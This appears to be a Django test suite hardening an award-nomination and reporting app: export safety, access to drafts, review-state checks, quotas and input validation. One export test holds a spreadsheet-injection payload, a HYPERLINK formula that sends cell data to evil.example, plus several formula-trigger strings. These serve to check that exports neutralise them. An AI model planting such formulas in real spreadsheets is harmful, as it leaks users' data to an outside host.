"""[hardening] What a probe of the running app broke: nominations, quotas and reports."""

import datetime
import io
from collections import namedtuple

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import IntegrityError, connection, transaction
from django.db.migrations.executor import MigrationExecutor
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from awards.export import nominations_workbook
from awards.models import Assessment, Nomination, NominationState
from awards.selectors import EXPORT_FIELDS, applicable_criteria, quota_ledger
from awards.services.nominations import assessment_save, nomination_create, nomination_delete
from awards.services.review import (
    nomination_assign,
    nomination_recommend,
    nomination_reject,
    nomination_return,
    submission_reopen,
)
from campaigns.models import Deadline, Plan, PlanState, ReportState
from campaigns.services import obligations as obligation_services
from campaigns.services import plans as plan_services
from campaigns.services import reports as report_services
from emulation.models import Role, Unit, UnitKind, User
from tests.builders import build_plan, dossier_complete, issued_plan_with_review_office
from tests.factories import UnitFactory, person_with_role


@pytest.fixture
def setup(tree, people):
    return issued_plan_with_review_office(tree, people)


def complete(setup, nomination, *, officer="officer_a", submit=True) -> Nomination:
    return dossier_complete(setup[officer], nomination, submit=submit)


def collective(setup, *, nominee="commune_a", officer="officer_a", quota="quota", plan=None, submit=True):
    district = setup["district_a" if officer == "officer_a" else "district_b"]
    nomination = nomination_create(
        actor=setup[officer], plan=plan or setup["plan"], quota=setup[quota] if isinstance(quota, str) else quota,
        nominating_unit=district, kind="collective", nominee_unit=setup[nominee])
    return complete(setup, nomination, officer=officer, submit=submit)


# 3. Excel formula injection ----------------------------------------------------------

def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, setup):
    name = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    position = "@SUM(1+1)"
    nomination = nomination_create(
        actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"], nominating_unit=setup["district_a"],
        kind="individual", person_name=name, person_position=position, person_unit=setup["commune_a"])
    complete(setup, nomination)
    client.force_login(setup["reviewer"])
    response = client.get(reverse("nominations_export", args=[setup["plan"].pk]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    name_cell, position_cell = sheet.cell(row=3, column=2), sheet.cell(row=3, column=5)
    assert (name_cell.value, name_cell.data_type, name_cell.quotePrefix) == (name, "s", True)
    assert (position_cell.value, position_cell.data_type, position_cell.quotePrefix) == (position, "s", True)
    plain = sheet.cell(row=3, column=7)
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Ủy ban nhân dân huyện Châu Phú", "s", False)


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@A1", "\t=1+1", "\r=1+1"])
def test_every_formula_trigger_is_written_as_text(value):
    plan = Plan(number=1, symbol="KH-UBND", issuer=Unit(name="Ủy ban nhân dân tỉnh"))
    row = namedtuple("Row", EXPORT_FIELDS)(
        kind="individual", person_name=value, nominee_unit__name=None, person_gender="", person_position="",
        person_unit__name=None, nominating_unit__name="Ủy ban nhân dân huyện", quota__printed_name="Bằng khen",
        quota__award_type__name="Bằng khen", state="submitted", submitted_at=None, round=1)
    output = io.BytesIO()
    nominations_workbook(plan, [row], output)
    cell = load_workbook(output).active.cell(row=3, column=2)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


# 4. Drafts stay with their own unit until first submitted ------------------------------

def test_the_receiving_unit_cannot_open_a_draft_or_its_files(client, setup):
    draft = collective(setup, submit=False)
    attachment = draft.attachments.first()
    client.force_login(setup["reviewer"])
    assert client.get(reverse("nomination_detail", args=[draft.pk])).status_code == 403
    assert client.get(reverse("attachment_download", args=[attachment.pk])).status_code == 403
    client.force_login(setup["officer_a"])
    assert client.get(reverse("nomination_detail", args=[draft.pk])).status_code == 200
    assert client.get(reverse("attachment_download", args=[attachment.pk])).status_code == 200


def test_once_submitted_the_reviewer_sees_it_and_still_does_after_returning_it(client, setup):
    nomination = collective(setup)
    attachment = nomination.attachments.first()
    client.force_login(setup["reviewer"])
    assert client.get(reverse("nomination_detail", args=[nomination.pk])).status_code == 200
    assert client.get(reverse("attachment_download", args=[attachment.pk])).status_code == 200
    nomination_return(actor=setup["reviewer"], nomination=nomination, reason="Bổ sung biên bản.")
    assert client.get(reverse("nomination_detail", args=[nomination.pk])).status_code == 200
    assert client.get(reverse("attachment_download", args=[attachment.pk])).status_code == 200


@pytest.fixture
def report_plan(tree, people):
    """An issued plan whose progress report is due from district A to the province."""
    plan = build_plan(tree, people)
    deadline = Deadline.objects.create(plan=plan, kind="progress_report", to_unit=tree["province"],
                                       due_on=datetime.date(2026, 12, 20), position=99)
    deadline.from_units.set([tree["district_a"]])
    plan_services.plan_submit(actor=people["drafter"], plan=plan)
    return people["chain"].issue(plan)


def saved_report(client, plan, officer, year=2026):
    client.force_login(officer)
    response = client.post(reverse("report_edit", args=[plan.pk, year]), {
        "narrative": "Báo cáo đang soạn", "save": "1",
        "attachments": SimpleUploadedFile("bao-cao.pdf", b"%PDF-1.4 tai lieu")})
    assert response.status_code == 302
    return plan.reports.get()


def test_a_saved_but_unsubmitted_report_and_its_files_stay_with_the_reporting_unit(client, tree, people,
                                                                                   report_plan):
    report = saved_report(client, report_plan, people["officer_a"])
    attachment = report.attachments.get()
    url = reverse("report_attachment", args=[attachment.pk])
    assert client.get(url).status_code == 200
    receiver = person_with_role(Role.REVIEWER, tree["province"])
    for person in (people["drafter"], receiver):
        client.force_login(person)
        assert client.get(url).status_code == 403
        rollup = client.get(reverse("plan_rollup", args=[report_plan.pk])).content.decode()
        assert url not in rollup
        assert "— Đang soạn" not in rollup


def test_the_receivers_see_a_report_once_submitted_and_after_returning_it(client, people, report_plan):
    report = saved_report(client, report_plan, people["officer_a"])
    report_services.report_submit(actor=people["officer_a"], report=report)
    url = reverse("report_attachment", args=[report.attachments.get().pk])
    client.force_login(people["drafter"])
    assert client.get(url).status_code == 200
    assert url in client.get(reverse("plan_rollup", args=[report_plan.pk])).content.decode()
    report_services.report_return(actor=people["drafter"], report=report, reason="Bổ sung số liệu.")
    report.refresh_from_db()
    assert report.state == ReportState.RETURNED
    assert client.get(url).status_code == 200


def test_a_report_is_read_by_the_unit_it_is_owed_to_not_by_the_plans_other_receivers(client, tree, people,
                                                                                      report_plan):
    department = UnitFactory(kind=UnitKind.DEPARTMENT, name="Sở Nội vụ", code="so-noi-vu", parent=tree["province"])
    other = Deadline.objects.create(plan=report_plan, kind="progress_report", to_unit=department,
                                    due_on=datetime.date(2026, 12, 20), position=100)
    other.from_units.set([tree["district_b"]])
    obligation_services.obligations_create(plan=report_plan)
    report = saved_report(client, report_plan, people["officer_a"])
    report_services.report_submit(actor=people["officer_a"], report=report)
    url = reverse("report_attachment", args=[report.attachments.get().pk])
    client.force_login(person_with_role(Role.REVIEWER, department))
    assert client.get(url).status_code == 403
    client.force_login(person_with_role(Role.REVIEWER, tree["province"]))
    assert client.get(url).status_code == 200


# 5. Assessments and other writes check the state ----------------------------------------

def reviewer_assessments(nomination):
    return list(Assessment.objects.filter(nomination=nomination, by_reviewer=True).values_list("met", "comment"))


@pytest.mark.parametrize("state", ["recommended", "approved", "awarded", "rejected", "not_approved", "returned"])
def test_a_reviewer_cannot_rewrite_the_criteria_once_the_review_is_over(client, setup, state):
    nomination = collective(setup)
    assessment_save(actor=setup["reviewer"], nomination=nomination, by_reviewer=True, entries=[
        {"criterion": c, "met": True, "score": None, "comment": "Đã đối chiếu"}
        for c in applicable_criteria(nomination)])
    Nomination.objects.filter(pk=nomination.pk).update(state=state)
    criterion = applicable_criteria(nomination).get()
    client.force_login(setup["reviewer"])
    response = client.post(reverse("nomination_assess", args=[nomination.pk]), {
        "as": "reviewer", f"met_{criterion.pk}": "no", f"comment_{criterion.pk}": "Sửa sau khi đã khen"},
        follow=True)
    label = NominationState(state).label
    assert f"Hồ sơ đang ở trạng thái “{label}”, không thẩm định được." in response.content.decode()
    assert reviewer_assessments(nomination) == [(True, "Đã đối chiếu")]
    nomination.refresh_from_db()
    assert nomination.state == state


def test_reviewer_assessment_of_a_draft_is_refused_by_the_service(setup):
    nomination = collective(setup, submit=False)
    with pytest.raises(ValidationError) as refused:
        assessment_save(actor=setup["reviewer"], nomination=nomination, by_reviewer=True, entries=[])
    assert refused.value.messages == ["Hồ sơ đang ở trạng thái “Đang soạn”, không thẩm định được."]
    nomination.refresh_from_db()
    assert nomination.state == NominationState.DRAFT


def test_the_nominator_cannot_rewrite_the_self_assessment_once_submitted(setup):
    nomination = collective(setup)
    criterion = applicable_criteria(nomination).get()
    with pytest.raises(PermissionDenied):
        assessment_save(actor=setup["officer_a"], nomination=nomination, entries=[
            {"criterion": criterion, "met": False, "score": None, "comment": "Sửa sau khi nộp"}])
    assert list(Assessment.objects.filter(nomination=nomination, by_reviewer=False).values_list(
        "met", "comment")) == [(True, "Đạt")]


def test_a_reviewer_is_assigned_only_while_the_dossier_is_being_reviewed(setup):
    nomination = collective(setup)
    nomination_assign(actor=setup["reviewer"], nomination=nomination, reviewer=setup["reviewer"])
    nomination_recommend(actor=setup["reviewer"], nomination=nomination)
    other = person_with_role(Role.REVIEWER, setup["office"])
    with pytest.raises(ValidationError) as refused:
        nomination_assign(actor=setup["reviewer"], nomination=nomination, reviewer=other)
    assert refused.value.messages == ["Hồ sơ đang ở trạng thái “Đề nghị khen thưởng”, không giao thẩm định được."]
    nomination.refresh_from_db()
    assert nomination.reviewer == setup["reviewer"]


def test_submission_is_reopened_only_under_a_plan_in_force(setup):
    Plan.objects.filter(pk=setup["plan"].pk).update(state=PlanState.SUPERSEDED)
    setup["plan"].refresh_from_db()
    with pytest.raises(ValidationError) as refused:
        submission_reopen(actor=setup["reviewer"], plan=setup["plan"], nominating_unit=setup["district_a"],
                          until=timezone.localdate(), reason="Bão lũ")
    assert refused.value.messages == ["Chỉ gia hạn nộp hồ sơ theo kế hoạch đang có hiệu lực."]


# 6. The quota ledger of plans whose quotas name no target group -------------------------

@pytest.mark.parametrize("number,login", [(484, "soanthao.cdn"), (289, "soanthao.dongthap")])
def test_the_ledger_of_the_demo_plans_with_quotas_for_everyone(db, client, settings, chain, number, login):
    settings.DEBUG = True
    call_command("load_demo", verbosity=0)
    plan = Plan.objects.get(number=number, state=PlanState.ISSUED)
    assert plan.quotas.filter(target_group__isnull=True).exists()
    client.force_login(User.objects.get(username=login))
    response = client.get(reverse("quota_ledger", args=[plan.pk]))
    assert response.status_code == 200
    body = response.content.decode()
    for quota in plan.quotas.filter(target_group__isnull=True):
        assert f'<tr data-quota="{quota.pk}"><td>{quota.name}</td>' in body
    assert client.get(reverse("nominations_export", args=[plan.pk])).status_code == 200


# 7. An edit conflict on the achievement report keeps what was typed --------------------------

def test_a_conflicting_save_of_the_achievements_shows_both_versions(client, setup):
    nomination = collective(setup, submit=False)
    url = reverse("nomination_achievements", args=[nomination.pk])
    opened = nomination.revision
    colleague = Client()
    colleague.force_login(person_with_role(Role.UNIT_OFFICER, setup["district_a"], full_name="Người thứ hai"))
    first = colleague.post(url, {"achievements": "Bản đã lưu của người thứ hai.", "revision": opened})
    assert first.status_code == 302
    client.force_login(setup["officer_a"])
    second = client.post(url, {"achievements": "Bản tôi vừa gõ, chưa lưu.", "revision": opened})
    assert second.status_code == 409
    body = second.content.decode()
    assert "Hồ sơ vừa được người khác lưu sau khi bạn mở" in body
    assert "Bản đã lưu của người thứ hai." in body
    assert "Bản tôi vừa gõ, chưa lưu." in body
    nomination.refresh_from_db()
    assert nomination.achievements == "Bản đã lưu của người thứ hai."
    # The conflict page offers the saved revision, so a deliberate second save goes through.
    assert f'name="revision" value="{nomination.revision}"' in body
    again = client.post(url, {"achievements": "Bản tôi vừa gõ, chưa lưu.", "revision": nomination.revision})
    assert again.status_code == 302
    nomination.refresh_from_db()
    assert nomination.achievements == "Bản tôi vừa gõ, chưa lưu."


# 10. The same collective twice; amendments; years out of range --------------------------------

def test_the_same_collective_cannot_be_nominated_twice_for_one_award(setup):
    first = collective(setup)
    with pytest.raises(ValidationError) as refused:
        nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
                          nominating_unit=setup["district_a"], kind="collective",
                          nominee_unit=setup["commune_a"])
    assert refused.value.message_dict == {"nominee_unit": [
        "Ủy ban nhân dân xã Bình Mỹ đã có hồ sơ đề nghị “Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh” theo kế "
        "hoạch này (do Ủy ban nhân dân huyện Châu Phú lập, đã nộp); mỗi tập thể chỉ được đề nghị một lần cho một "
        "hình thức khen thưởng."]}
    province_officer = person_with_role(Role.UNIT_OFFICER, setup["province"])
    with pytest.raises(ValidationError):  # nor by another unit above it
        nomination_create(actor=province_officer, plan=setup["plan"], quota=setup["quota"],
                          nominating_unit=setup["province"], kind="collective",
                          nominee_unit=setup["commune_a"])
    nomination_reject(actor=setup["reviewer"], nomination=first, reason="Chưa đạt tiêu chí.")
    again = nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
                              nominating_unit=setup["district_a"], kind="collective",
                              nominee_unit=setup["commune_a"])
    assert again.state == NominationState.DRAFT


def test_a_draft_never_submitted_can_be_deleted_and_frees_the_collective(client, setup,
                                                                          django_capture_on_commit_callbacks):
    draft = collective(setup, submit=False)
    stored = [attachment.file.name for attachment in draft.attachments.all()]
    storage = draft.attachments.first().file.storage
    url = reverse("nomination_delete", args=[draft.pk])
    client.force_login(setup["officer_b"])
    assert client.post(url).status_code in (403, 404)
    client.force_login(setup["officer_a"])
    confirm = client.get(url)
    assert (confirm.status_code, "Xác nhận xóa hồ sơ" in confirm.content.decode()) == (200, True)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url)
    assert (response.status_code, response["Location"]) == (302, reverse("my_nominations"))
    assert not Nomination.objects.filter(pk=draft.pk).exists()
    assert [name for name in stored if storage.exists(name)] == []
    again = nomination_create(actor=setup["officer_a"], plan=setup["plan"], quota=setup["quota"],
                              nominating_unit=setup["district_a"], kind="collective",
                              nominee_unit=setup["commune_a"])
    assert again.state == NominationState.DRAFT


def test_a_dossier_once_submitted_is_never_deleted(setup):
    nomination = collective(setup)
    nomination_return(actor=setup["reviewer"], nomination=nomination, reason="Bổ sung biên bản.")
    with pytest.raises(ValidationError) as refused:
        nomination_delete(actor=setup["officer_a"], nomination=nomination)
    assert refused.value.messages == ["Chỉ xóa được hồ sơ đang soạn, chưa nộp lần nào."]


def test_the_database_refuses_a_second_live_nomination_of_a_collective(setup):
    first = collective(setup, submit=False)
    duplicate = Nomination(plan=first.plan, quota=first.quota, award_type=first.award_type,
                           nominating_unit=first.nominating_unit, receiving_unit=first.receiving_unit,
                           kind="collective", nominee_unit=first.nominee_unit)
    with pytest.raises(IntegrityError), transaction.atomic():
        duplicate.save()
    Nomination.objects.filter(pk=first.pk).update(state=NominationState.NOT_APPROVED)
    duplicate.save()
    assert Nomination.objects.filter(nominee_unit=first.nominee_unit).count() == 2


def amended(setup) -> Plan:
    amendment = plan_services.plan_amend(actor=setup["drafter"], plan=setup["plan"])
    plan_services.plan_submit(actor=setup["drafter"], plan=amendment)
    return setup["chain"].issue(amendment)


def test_an_amendment_does_not_offer_again_the_places_its_predecessor_used(setup):
    first = collective(setup, nominee="district_a", quota="district_quota")
    nomination_recommend(actor=setup["reviewer"], nomination=first)
    second_plan = amended(setup)
    district_quota = second_plan.quotas.get(per_parent=False)
    row = next(row for row in quota_ledger(second_plan) if row.quota.pk == district_quota.pk)
    assert (row.quota.count, row.recommended, row.left) == (1, 1, 0)
    other = collective(setup, nominee="district_b", officer="officer_b", quota=district_quota, plan=second_plan)
    with pytest.raises(ValidationError) as refused:
        nomination_recommend(actor=setup["reviewer"], nomination=other)
    assert refused.value.messages == [
        "Đã hết suất: “Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh” cho huyện dẫn đầu có 1 suất và đã đề nghị đủ."]
    communes = next(row for row in quota_ledger(second_plan) if row.quota.per_parent)
    assert (communes.recommended, communes.left) == (0, 2)


def test_an_amendment_counts_the_predecessors_place_per_parent_and_the_collective_once(setup):
    first = collective(setup)
    nomination_recommend(actor=setup["reviewer"], nomination=first)
    second_plan = amended(setup)
    communes = second_plan.quotas.get(per_parent=True)
    row = next(row for row in quota_ledger(second_plan) if row.quota.pk == communes.pk)
    assert [(parent.code, taken) for parent, taken in row.by_parent] == [("huyen-a", 1)]
    with pytest.raises(ValidationError) as refused:
        nomination_create(actor=setup["officer_a"], plan=second_plan, quota=communes,
                          nominating_unit=setup["district_a"], kind="collective",
                          nominee_unit=setup["commune_a"])
    assert list(refused.value.message_dict) == ["nominee_unit"]
    another = UnitFactory(parent=setup["district_a"], name="Ủy ban nhân dân xã Mỹ Đức", code="xa-a2")
    setup["commune_a2"] = another
    late = collective(setup, nominee="commune_a2", quota=communes, plan=second_plan)
    with pytest.raises(ValidationError) as full:
        nomination_recommend(actor=setup["reviewer"], nomination=late)
    assert "chỉ có một suất cho mỗi đơn vị thuộc Ủy ban nhân dân huyện Châu Phú" in full.value.messages[0]


@pytest.mark.parametrize("year", ["-1", "0", "99999999999999999999", "abc"])
def test_the_rollup_says_when_the_year_is_out_of_range(client, people, report_plan, year):
    client.force_login(people["drafter"])
    response = client.get(reverse("plan_rollup", args=[report_plan.pk]), {"year": year})
    assert response.status_code == 200
    body = response.content.decode()
    assert f"Năm “{year}” không hợp lệ; đang hiển thị năm 2026." in body
    assert response.context["year"] == 2026


@pytest.mark.parametrize("year", [0, 1999, 2101, 99999, 99999999999999999999])
def test_a_report_for_a_year_out_of_range_is_not_found(client, people, report_plan, year):
    client.force_login(people["officer_a"])
    url = f"/ke-hoach/{report_plan.pk}/bao-cao/{year}/"
    assert client.get(url).status_code == 404
    assert client.post(url, {"narrative": "x", "save": "1"}).status_code == 404
    assert not report_plan.reports.exists()


def test_the_report_service_refuses_a_year_out_of_range(tree, people, report_plan):
    with pytest.raises(ValidationError) as refused:
        report_services.report_save(actor=people["officer_a"], plan=report_plan, unit=tree["district_a"],
                                period_year=32767, narrative="x", values={})
    assert refused.value.messages == ["Năm báo cáo phải từ 2000 đến 2100."]


@pytest.mark.django_db(transaction=True)
def test_upgrading_closes_the_duplicate_dossiers_double_clicks_made(tree, people):
    setup = issued_plan_with_review_office(tree, people)
    first = collective(setup)
    before, latest = [("awards", "0003_nominations")], [("awards", "0004_one_live_nomination_per_collective")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old_nomination = executor.loader.project_state(before).apps.get_model("awards", "Nomination")
    copy = {field.attname: getattr(first, field.attname) for field in Nomination._meta.concrete_fields
            if field.attname != "id"}
    twice = old_nomination.objects.create(**{**copy, "state": NominationState.DRAFT, "round": 0})
    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    try:
        executor.migrate(latest)
        first.refresh_from_db()
        closed = Nomination.objects.get(pk=twice.pk)
        assert (first.state, closed.state) == (NominationState.SUBMITTED, NominationState.REJECTED)
    finally:
        # Forward to the newest schema again: later tests share this database.
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
    assert closed.decision_reason == (f"Hồ sơ trùng: tập thể đã có hồ sơ số {first.pk} cho cùng hình thức khen "
                                      "thưởng theo kế hoạch này (đóng khi nâng cấp).")
